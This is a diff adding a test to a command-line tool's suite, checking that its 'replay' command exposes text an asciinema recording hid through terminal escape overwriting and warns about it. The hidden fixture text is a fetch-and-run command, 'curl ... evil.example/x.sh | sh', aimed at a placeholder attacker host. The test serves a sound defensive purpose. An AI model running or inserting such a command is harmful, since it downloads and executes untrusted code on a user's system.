@@ -58,6 +58,16 @@ describe('hostile data is inert in human output', () => {
     expect(r.stdout.length).toBeGreaterThan(100);
   });
 
+  it('replay lists text the recording hid by overwriting it, and warns', async () => {
+    const s = hostile((x) => String(x.name).includes('\u001b') && x.recordings?.[0]?.recording_type === 'asciinema');
+    const r = await b0s(['replay', s.socket_id, s.session_id], { env: env() });
+    expect(r.code).toBe(0);
+    const [screen, listed] = r.stdout.split('── b0s: printed, then hidden by overwriting the line');
+    expect(screen).not.toContain('curl -s http://evil.example/x.sh | sh');
+    expect(listed).toContain('curl -s http://evil.example/x.sh | sh');
+    expect(r.stderr).toMatch(/warning: recording .* hid text it had printed/);
+  });
+
   it('JSON keeps the data exactly (same strings once parsed) yet carries no raw bidi or C1 characters', async () => {
     const r = await b0s(['list', '--page-size', '40', '-o', 'json'], { env: env() });
     const res = await fetch(`${sim().url}/sessions?page=1&page_size=40`, { headers: { 'x-access-token': sim().token } });
